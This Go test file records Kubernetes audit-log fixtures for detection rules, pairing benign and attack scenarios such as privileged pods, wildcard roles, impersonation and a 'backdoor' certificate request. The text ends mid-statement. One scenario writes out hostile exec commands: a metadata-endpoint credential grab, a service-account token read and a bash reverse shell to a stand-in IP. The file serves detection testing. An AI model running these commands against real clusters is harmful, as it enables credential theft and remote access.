package rules_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	admissionregv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authnv1 "k8s.io/api/authentication/v1"
	authzv1 "k8s.io/api/authorization/v1"
	certv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/faultline/faultline/internal/testkube"
)

// The rule corpora are recorded from a real control plane (etcd,
// kube-apiserver, kube-controller-manager, kube-scheduler):
//
//	export FAULTLINE_KUBE_BIN=$(scripts/kube-build.sh | tail -1)
//	FAULTLINE_UPDATE_FIXTURES=1 go test ./analyzers/rules -run TestRecordCorpora -count=1 -timeout 20m
//
// writes testdata/recorded/benign.jsonl.gz (everything the API server
// audited from its start through a few minutes of ordinary control-plane
// work and a small application being deployed) and, for every scenario of
// the catalogue, testdata/recorded/<case>.jsonl with exactly the audit lines
// of the scenario's own requests (told apart by the Audit-ID header each
// request carries). The lines are the API server's, unchanged.

const recordedDir = "testdata/recorded"

// recordPolicy audits every request once complete, at RequestResponse,
// except secret and token payloads (Metadata) and health probes (none).
const recordPolicy = `apiVersion: audit.k8s.io/v1
kind: Policy
omitStages:
  - RequestReceived
rules:
  - level: None
    nonResourceURLs: ["/healthz*", "/livez*", "/readyz*"]
  - level: Metadata
    resources:
      - group: ""
        resources: ["secrets", "serviceaccounts/token"]
      - group: authentication.k8s.io
        resources: ["tokenreviews"]
  - level: RequestResponse
`

// recorder tags each request with an Audit-ID and files it under the
// scenario that is running.
type recorder struct {
	mu    sync.Mutex
	cur   string
	cases map[string][]string
	order []string
}

func (r *recorder) start(name string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.cur = name
	if _, ok := r.cases[name]; !ok {
		r.order = append(r.order, name)
		r.cases[name] = []string{}
	}
}

func (r *recorder) wrap(rt http.RoundTripper) http.RoundTripper {
	return roundTripFunc(func(req *http.Request) (*http.Response, error) {
		id := uuid.NewString()
		r.mu.Lock()
		if r.cur != "" {
			r.cases[r.cur] = append(r.cases[r.cur], id)
		}
		r.mu.Unlock()
		req = req.Clone(req.Context())
		req.Header.Set("Audit-ID", id)
		return rt.RoundTrip(req)
	})
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

func TestRecordCorpora(t *testing.T) {
	if os.Getenv("FAULTLINE_UPDATE_FIXTURES") != "1" {
		t.Skip("set FAULTLINE_UPDATE_FIXTURES=1 to record analyzers/rules/testdata/recorded from a real cluster")
	}
	dir := t.TempDir()
	c := testkube.StartT(t, testkube.Options{Dir: dir, Controllers: true, AuditPolicy: recordPolicy})
	ctx, cancel := context.WithTimeout(t.Context(), 15*time.Minute)
	defer cancel()
	rec := &recorder{cases: map[string][]string{}}
	cfg := func(base *rest.Config) *rest.Config {
		base = rest.CopyConfig(base)
		base.UserAgent = "kubectl/v1.33.13 (linux/amd64) kubernetes/8adc0f0"
		base.WrapTransport = rec.wrap
		return base
	}
	mk := func(rc *rest.Config) *kubernetes.Clientset {
		cs, err := kubernetes.NewForConfig(rc)
		if err != nil {
			t.Fatal(err)
		}
		return cs
	}
	adminCfg := cfg(c.Admin.RESTConfig())
	admin := mk(adminCfg)
	user := mk(cfg(c.User.RESTConfig()))
	anon := mk(cfg(rest.AnonymousClientConfig(c.Admin.RESTConfig())))
	must := func(what string, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}

	// Benign: ordinary control-plane work and a small application.
	rec.start("benign")
	benignStart := time.Now()
	app := "shop"
	_, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: app}}, metav1.CreateOptions{})
	must("namespace", err)
	must("default sa", c.WaitForServiceAccount(ctx, app, "default"))
	no := false
	_, err = admin.CoreV1().ServiceAccounts(app).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "web"}, AutomountServiceAccountToken: &no}, metav1.CreateOptions{})
	must("sa", err)
	_, err = admin.CoreV1().ConfigMaps(app).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "web-config"},
		Data: map[string]string{"LOG_LEVEL": "info", "LISTEN": ":8080"}}, metav1.CreateOptions{})
	must("configmap", err)
	replicas := int32(2)
	labels := map[string]string{"app": "web"}
	_, err = admin.AppsV1().Deployments(app).Create(ctx, &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "web"},
		Spec: appsv1.DeploymentSpec{Replicas: &replicas, Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec: corev1.PodSpec{ServiceAccountName: "web", Containers: []corev1.Container{{Name: "web",
					Image: "registry.example/shop/web:1.4.2", Ports: []corev1.ContainerPort{{ContainerPort: 8080}}}}}}}},
		metav1.CreateOptions{})
	must("deployment", err)
	_, err = admin.CoreV1().Services(app).Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "web"},
		Spec: corev1.ServiceSpec{Selector: labels, Ports: []corev1.ServicePort{{Port: 80}}}}, metav1.CreateOptions{})
	must("service", err)
	_, err = admin.AppsV1().Deployments(app).Patch(ctx, "web", types.MergePatchType, []byte(`{"spec":{"replicas":3}}`), metav1.PatchOptions{})
	must("scale", err)
	_, err = admin.CoreV1().Pods(app).List(ctx, metav1.ListOptions{})
	must("list pods", err)
	benignFor := 150 * time.Second
	if d, err := time.ParseDuration(os.Getenv("FAULTLINE_BENIGN_FOR")); err == nil {
		benignFor = d
	}
	select {
	case <-time.After(time.Until(benignStart.Add(benignFor))):
	case <-ctx.Done():
		t.Fatal(ctx.Err())
	}
	benignEnd := waitQuiet(t, c.AuditLogPath)

	// Setup for the scenarios (not recorded as a case).
	rec.start("setup")
	ns := "payments"
	_, err = admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{})
	must("namespace", err)
	for _, n := range []string{"anon-open", "other"} {
		_, err = admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: n}}, metav1.CreateOptions{})
		must("namespace "+n, err)
	}
	must("default sa", c.WaitForServiceAccount(ctx, ns, "default"))
	_, err = admin.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "ci-bot"}}, metav1.CreateOptions{})
	must("sa", err)
	_, err = admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "ci-bot-rbac"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: ns, Name: "ci-bot"}}}, metav1.CreateOptions{})
	must("ci-bot binding", err)
	tok, err := admin.CoreV1().ServiceAccounts(ns).CreateToken(ctx, "ci-bot", &authnv1.TokenRequest{}, metav1.CreateOptions{})
	must("token", err)
	saCfg := rest.AnonymousClientConfig(c.Admin.RESTConfig())
	saCfg.BearerToken = tok.Status.Token
	sa := mk(cfg(saCfg))
	for i := range 7 {
		_, err = admin.CoreV1().Secrets(ns).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("db-%d", i)},
			StringData: map[string]string{"password": "not-a-real-password"}}, metav1.CreateOptions{})
		must("secret", err)
	}
	_, err = admin.RbacV1().Roles(ns).Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "secret-reader"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get"}}}}, metav1.CreateOptions{})
	must("role", err)
	_, err = admin.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "user-reads-secrets"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "secret-reader"},
		Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: testkube.LowPrivUser}}}, metav1.CreateOptions{})
	must("rolebinding", err)
	_, err = admin.RbacV1().Roles("anon-open").Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "anon"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods", "configmaps"}, Verbs: []string{"get", "list", "create"}}}}, metav1.CreateOptions{})
	must("anon role", err)
	_, err = admin.RbacV1().RoleBindings("anon-open").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "anon"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "anon"},
		Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "system:anonymous"}}}, metav1.CreateOptions{})
	must("anon binding", err)
	poll(ctx, t, "RBAC for the scenarios", func(ctx context.Context) (bool, error) {
		_, e1 := user.CoreV1().Secrets(ns).Get(ctx, "db-0", metav1.GetOptions{})
		_, e2 := anon.CoreV1().Pods("anon-open").List(ctx, metav1.ListOptions{})
		_, e3 := sa.CoreV1().Namespaces().Get(ctx, ns, metav1.GetOptions{})
		return e1 == nil && e2 == nil && e3 == nil, nil
	})
	target := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "checkout"},
		Spec: corev1.PodSpec{ServiceAccountName: "ci-bot", Containers: []corev1.Container{{Name: "app", Image: "registry.example/shop/checkout:2.1.0"}}}}
	_, err = admin.CoreV1().Pods(ns).Create(ctx, target, metav1.CreateOptions{})
	must("target pod", err)
	_, err = admin.CoreV1().Nodes().Create(ctx, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "worker-1"}}, metav1.CreateOptions{})
	must("node", err)
	_, err = admin.CoreV1().Events(ns).Create(ctx, &corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: "checkout.1"},
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: ns, Name: "checkout"}, Reason: "Started", Message: "started", Type: "Normal"}, metav1.CreateOptions{})
	must("event", err)

	connect := func(sub string, cmd ...string) {
		req := admin.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name("checkout").SubResource(sub).
			Param("container", "app").Param("stdout", "true")
		for _, c := range cmd {
			req = req.Param("command", c)
		}
		_ = req.Do(ctx).Error() // no kubelet: refused after authorization, audited
	}
	pod := func(name string, mut func(*corev1.Pod)) *corev1.Pod {
		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name},
			Spec: corev1.PodSpec{ServiceAccountName: "ci-bot", Containers: []corev1.Container{{Name: "app", Image: "registry.example/shop/app:1.0"}}}}
		mut(p)
		return p
	}
	createPod := func(namespace string, p *corev1.Pod) {
		t.Helper()
		_, err := admin.CoreV1().Pods(namespace).Create(ctx, p, metav1.CreateOptions{})
		must("create pod "+p.Name, err)
	}
	yes := true
	role := func(cl kubernetes.Interface, name string, rules ...rbacv1.PolicyRule) {
		t.Helper()
		_, err := cl.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: rules}, metav1.CreateOptions{})
		must("clusterrole "+name, err)
	}

	scenarios := []struct {
		name string
		run  func()
	}{
		{"pod-exec.pos", func() { connect("exec", "ls", "-la", "/tmp") }},
		{"pod-exec.neg", func() { _ = admin.CoreV1().Pods(ns).GetLogs("checkout", &corev1.PodLogOptions{}).Do(ctx).Error() }},
		{"pod-attach.pos", func() { connect("attach") }},
		{"pod-attach.neg", func() { _, _ = admin.CoreV1().Pods(ns).Get(ctx, "checkout", metav1.GetOptions{}) }},
		{"pod-portforward.pos", func() {
			_ = admin.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name("checkout").SubResource("portforward").Param("ports", "8080").Do(ctx).Error()
		}},
		{"pod-portforward.neg", func() { _, _ = admin.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{}) }},
		{"ephemeral-container.pos", func() {
			_, err := admin.CoreV1().Pods(ns).Patch(ctx, "checkout", types.StrategicMergePatchType,
				[]byte(`{"spec":{"ephemeralContainers":[{"name":"debugger","image":"busybox:1.36","command":["sh"],"stdin":true,"tty":true,"targetContainerName":"app"}]}}`),
				metav1.PatchOptions{}, "ephemeralcontainers")
			must("ephemeral container", err)
		}},
		{"ephemeral-container.neg", func() {
			_, err := admin.CoreV1().Pods(ns).Patch(ctx, "checkout", types.MergePatchType, []byte(`{"metadata":{"labels":{"debug":"true"}}}`), metav1.PatchOptions{})
			must("label pod", err)
		}},
		{"exec-suspicious-command.pos", func() {
			connect("exec", "sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
			connect("exec", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
			connect("exec", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
		}},
		{"exec-suspicious-command.neg", func() {
			connect("exec", "sh", "-c", "echo hello && ls /app")
			connect("exec", "cat", "/etc/hostname")
		}},
		{"privileged-pod.pos", func() {
			createPod(ns, pod("priv-init", func(p *corev1.Pod) {
				p.Spec.InitContainers = []corev1.Container{{Name: "setup", Image: "registry.example/tools/setup:1", SecurityContext: &corev1.SecurityContext{Privileged: &yes}}}
			}))
		}},
		{"privileged-pod.neg", func() {
			createPod(ns, pod("unpriv", func(p *corev1.Pod) {
				p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &no, AllowPrivilegeEscalation: &no}
			}))
		}},
		{"host-network-pod.pos", func() { createPod(ns, pod("hostnet", func(p *corev1.Pod) { p.Spec.HostNetwork = true })) }},
		{"host-network-pod.neg", func() {
			createPod(ns, pod("hostport", func(p *corev1.Pod) {
				p.Spec.Containers[0].Ports = []corev1.ContainerPort{{ContainerPort: 8080}}
			}))
		}},
		{"host-pid-pod.pos", func() { createPod(ns, pod("hostpid", func(p *corev1.Pod) { p.Spec.HostPID = true })) }},
		{"host-pid-pod.neg", func() {
			createPod(ns, pod("sharedpid", func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = &yes }))
		}},
		{"host-ipc-pod.pos", func() { createPod(ns, pod("hostipc", func(p *corev1.Pod) { p.Spec.HostIPC = true })) }},
		{"host-ipc-pod.neg", func() {
			createPod(ns, pod("shm", func(p *corev1.Pod) {
				p.Spec.Volumes = []corev1.Volume{{Name: "shm", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{Medium: corev1.StorageMediumMemory}}}}
			}))
		}},
		{"sensitive-hostpath-pod.pos", func() {
			createPod(ns, pod("docker-sock", func(p *corev1.Pod) {
				p.Spec.Volumes = []corev1.Volume{{Name: "sock", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/run/docker.sock"}}}}
			}))
		}},
		{"sensitive-hostpath-pod.neg", func() {
			createPod(ns, pod("cache", func(p *corev1.Pod) {
				p.Spec.Volumes = []corev1.Volume{{Name: "cache", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/mnt/cache/shop"}}}}
			}))
		}},
		{"excessive-capabilities-pod.pos", func() {
			createPod(ns, pod("sysadmin", func(p *corev1.Pod) {
				p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}}
			}))
		}},
		{"excessive-capabilities-pod.neg", func() {
			createPod(ns, pod("bindport", func(p *corev1.Pod) {
				p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"NET_BIND_SERVICE"}, Drop: []corev1.Capability{"ALL"}}}
			}))
		}},
		{"untrusted-registry-image.pos", func() {
			createPod(ns, pod("hub-image", func(p *corev1.Pod) { p.Spec.Containers[0].Image = "nginx:1.27" }))
		}},
		{"untrusted-registry-image.neg", func() {
			createPod(ns, pod("own-image", func(p *corev1.Pod) { p.Spec.Containers[0].Image = "registry.example/shop/web:1.4.2" }))
		}},
		{"pod-in-system-namespace.pos", func() {
			createPod("kube-system", pod("kube-proxy-helper", func(p *corev1.Pod) {
				p.Spec.ServiceAccountName = ""
				p.Spec.Containers[0].Image = "busybox:1.36"
			}))
		}},
		{"pod-in-system-namespace.neg", func() {
			createPod("kube-system", pod("pause-check", func(p *corev1.Pod) {
				p.Spec.ServiceAccountName = ""
				p.Spec.Containers[0].Image = "registry.k8s.io/pause:3.10"
			}))
		}},
		{"serviceaccount-in-system-namespace.pos", func() {
			_, err := admin.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "node-problem-helper"}}, metav1.CreateOptions{})
			must("sa", err)
		}},
		{"serviceaccount-in-system-namespace.neg", func() {
			_, err := admin.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "reporting"}}, metav1.CreateOptions{})
			must("sa", err)
		}},
		{"workload-in-system-namespace.pos", func() {
			ls := map[string]string{"app": "log-agent"}
			_, err := admin.AppsV1().DaemonSets("kube-system").Create(ctx, &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "log-agent"},
				Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: ls}, Template: corev1.PodTemplateSpec{
					ObjectMeta: metav1.ObjectMeta{Labels: ls},
					Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "agent", Image: "registry.k8s.io/pause:3.10"}}}}}}, metav1.CreateOptions{})
			must("daemonset", err)
		}},
		{"workload-in-system-namespace.neg", func() {
			ls := map[string]string{"app": "log-agent"}
			_, err := admin.AppsV1().DaemonSets(ns).Create(ctx, &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "log-agent"},
				Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: ls}, Template: corev1.PodTemplateSpec{
					ObjectMeta: metav1.ObjectMeta{Labels: ls},
					Spec:       corev1.PodSpec{ServiceAccountName: "ci-bot", Containers: []corev1.Container{{Name: "agent", Image: "registry.k8s.io/pause:3.10"}}}}}}, metav1.CreateOptions{})
			must("daemonset", err)
		}},
		{"default-serviceaccount-token.pos", func() {
			createPod(ns, pod("uses-default", func(p *corev1.Pod) { p.Spec.ServiceAccountName = "" }))
		}},
		{"default-serviceaccount-token.neg", func() {
			createPod(ns, pod("no-token", func(p *corev1.Pod) {
				p.Spec.ServiceAccountName = ""
				p.Spec.AutomountServiceAccountToken = &no
			}))
		}},
		{"exposed-service.pos", func() {
			_, err := admin.CoreV1().Services(ns).Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "checkout-np"},
				Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeNodePort, Selector: map[string]string{"app": "checkout"}, Ports: []corev1.ServicePort{{Port: 80}}}}, metav1.CreateOptions{})
			must("service", err)
		}},
		{"exposed-service.neg", func() {
			_, err := admin.CoreV1().Services(ns).Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "checkout"},
				Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeClusterIP, Selector: map[string]string{"app": "checkout"}, Ports: []corev1.ServicePort{{Port: 80}}}}, metav1.CreateOptions{})
			must("service", err)
		}},
		{"ingress-without-tls.pos", func() { ingress(ctx, t, admin, ns, "shop-plain", false) }},
		{"ingress-without-tls.neg", func() { ingress(ctx, t, admin, ns, "shop-tls", true) }},
		{"configmap-credentials.pos", func() {
			_, err := admin.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "legacy-db"},
				Data: map[string]string{"DB_HOST": "db.payments", "DB_PASSWORD": "hunter2-not-real"}}, metav1.CreateOptions{})
			must("configmap", err)
			_, err = admin.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "uploader"},
				Data: map[string]string{"settings.ini": "[s3]\nkey_id = AKIAIOSFODNN7EXAMPLE\nregion = eu-west-1\n"}}, metav1.CreateOptions{})
			must("configmap", err)
		}},
		{"configmap-credentials.neg", func() {
			_, err := admin.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "checkout-config"},
				Data: map[string]string{"LOG_LEVEL": "debug", "PASSWORD_MIN_LENGTH_HINT_URL": "https://example.com/policy", "TIMEOUT": "30s"}}, metav1.CreateOptions{})
			must("configmap", err)
		}},
		{"secret-read.pos", func() {
			_, err := user.CoreV1().Secrets(ns).Get(ctx, "db-0", metav1.GetOptions{})
			must("user reads secret", err)
		}},
		{"secret-read.neg", func() {
			_, err := user.CoreV1().Secrets("other").Get(ctx, "db-0", metav1.GetOptions{})
			if !apierrors.IsForbidden(err) {
				t.Fatalf("user get secret in other: %v, want forbidden", err)
			}
		}},
		{"secret-list-cluster-wide.pos", func() {
			_, err := admin.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
			must("list secrets", err)
		}},
		{"secret-list-cluster-wide.neg", func() {
			_, err := admin.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
			must("list secrets", err)
		}},
		{"secret-rapid-access.pos", func() {
			for i := range 6 {
				_, err := user.CoreV1().Secrets(ns).Get(ctx, fmt.Sprintf("db-%d", i), metav1.GetOptions{})
				must("get secret", err)
			}
		}},
		{"secret-rapid-access.neg", func() {
			for range 6 {
				_, err := user.CoreV1().Secrets(ns).Get(ctx, "db-6", metav1.GetOptions{})
				must("get secret", err)
			}
		}},
		{"anonymous-allowed.pos", func() {
			_, err := anon.CoreV1().Pods("anon-open").List(ctx, metav1.ListOptions{})
			must("anonymous list pods", err)
		}},
		{"anonymous-allowed.neg", func() {
			_, err := anon.Discovery().ServerVersion()
			must("anonymous version", err)
			_, err = anon.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
			if !apierrors.IsForbidden(err) {
				t.Fatalf("anonymous list secrets: %v, want forbidden", err)
			}
		}},
		{"anonymous-write.pos", func() {
			_, err := anon.CoreV1().ConfigMaps("anon-open").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "dropped"},
				Data: map[string]string{"x": "y"}}, metav1.CreateOptions{})
			must("anonymous create", err)
		}},
		{"anonymous-write.neg", func() {
			_, err := anon.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "dropped"},
				Data: map[string]string{"x": "y"}}, metav1.CreateOptions{})
			if !apierrors.IsForbidden(err) {
				t.Fatalf("anonymous create in %s: %v, want forbidden", ns, err)
			}
		}},
		{"forbidden-burst.pos", func() {
			for _, res := range []string{"secrets", "configmaps", "pods", "deployments", "serviceaccounts", "roles", "rolebindings", "nodes", "namespaces", "services", "events", "clusterroles"} {
				_ = forbiddenList(ctx, user, res)
			}
		}},
		{"forbidden-burst.neg", func() {
			for _, res := range []string{"pods", "configmaps", "services", "deployments", "nodes"} {
				_ = forbiddenList(ctx, user, res)
			}
		}},
		{"self-subject-review.pos", func() {
			_, err := user.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authzv1.SelfSubjectAccessReview{Spec: authzv1.SelfSubjectAccessReviewSpec{
				ResourceAttributes: &authzv1.ResourceAttributes{Verb: "get", Resource: "secrets", Namespace: ns}}}, metav1.CreateOptions{})
			must("ssar", err)
			_, err = user.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authzv1.SelfSubjectRulesReview{Spec: authzv1.SelfSubjectRulesReviewSpec{Namespace: ns}}, metav1.CreateOptions{})
			must("ssrr", err)
		}},
		{"self-subject-review.neg", func() {
			_, err := user.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authnv1.SelfSubjectReview{}, metav1.CreateOptions{})
			must("whoami", err)
		}},
		{"cluster-admin-binding.pos", func() {
			_, err := admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "reporting-admin"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: ns, Name: "reporting"}}}, metav1.CreateOptions{})
			must("crb", err)
		}},
		{"cluster-admin-binding.neg", func() {
			_, err := admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "reporting-view"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
				Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: ns, Name: "reporting"}}}, metav1.CreateOptions{})
			must("crb", err)
		}},
		{"wildcard-role.pos", func() {
			role(admin, "ops-everything", rbacv1.PolicyRule{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}})
		}},
		{"wildcard-role.neg", func() {
			role(admin, "ops-reader", rbacv1.PolicyRule{APIGroups: []string{"", "apps"}, Resources: []string{"pods", "deployments"}, Verbs: []string{"get", "list", "watch"}})
		}},
		{"role-pod-exec.pos", func() {
			role(admin, "debugger", rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create"}})
		}},
		{"role-pod-exec.neg", func() {
			role(admin, "log-reader", rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods/log", "pods"}, Verbs: []string{"get", "list"}})
		}},
		{"role-write-privileges.pos", func() {
			role(admin, "deployer", rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"get", "create", "update", "patch"}})
		}},
		{"role-write-privileges.neg", func() {
			role(admin, "watcher", rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"get", "list", "watch"}})
		}},
		{"system-role-modified.pos", func() {
			_, err := admin.RbacV1().ClusterRoles().Patch(ctx, "system:aggregate-to-view", types.StrategicMergePatchType,
				[]byte(`{"rules":[{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]}]}`), metav1.PatchOptions{})
			must("patch system role", err)
		}},
		{"system-role-modified.neg", func() {
			_, err := admin.RbacV1().ClusterRoles().Patch(ctx, "watcher", types.MergePatchType, []byte(`{"metadata":{"labels":{"team":"ops"}}}`), metav1.PatchOptions{})
			must("patch role", err)
		}},
		{"rbac-changed-by-serviceaccount.pos", func() {
			_, err := sa.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "ci-bot-grants"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
				Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: ns, Name: "default"}}}, metav1.CreateOptions{})
			must("sa creates binding", err)
		}},
		{"rbac-changed-by-serviceaccount.neg", func() {
			_, err := sa.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "ci-run-42"},
				Data: map[string]string{"commit": "8adc0f0"}}, metav1.CreateOptions{})
			must("sa creates configmap", err)
		}},
		{"impersonation-privileged.pos", func() {
			ic := rest.CopyConfig(adminCfg)
			ic.Impersonate = rest.ImpersonationConfig{UserName: "system:admin", Groups: []string{"system:masters"}}
			_, err := mk(ic).CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
			must("impersonate", err)
		}},
		{"impersonation-privileged.neg", func() {
			ic := rest.CopyConfig(adminCfg)
			ic.Impersonate = rest.ImpersonationConfig{UserName: testkube.LowPrivUser}
			_, err := mk(ic).CoreV1().Secrets(ns).Get(ctx, "db-1", metav1.GetOptions{})
			must("impersonate", err)
		}},
		{"serviceaccount-token-request.pos", func() {
			_, err := admin.CoreV1().ServiceAccounts(ns).CreateToken(ctx, "reporting", &authnv1.TokenRequest{}, metav1.CreateOptions{})
			must("token", err)
		}},
		{"serviceaccount-token-request.neg", func() {
			_, err := admin.CoreV1().ServiceAccounts(ns).Get(ctx, "reporting", metav1.GetOptions{})
			must("get sa", err)
		}},
		{"csr-created-or-approved.pos", func() {
			csr, err := admin.CertificatesV1().CertificateSigningRequests().Create(ctx, &certv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: "backdoor"},
				Spec: certv1.CertificateSigningRequestSpec{Request: csrPEM(t, "mallory", "ops-admins"),
					SignerName: certv1.KubeAPIServerClientSignerName, Usages: []certv1.KeyUsage{certv1.UsageClientAuth}}}, metav1.CreateOptions{})
			must("csr", err)
			csr.Status.Conditions = append(csr.Status.Conditions, certv1.CertificateSigningRequestCondition{Type: certv1.CertificateApproved,
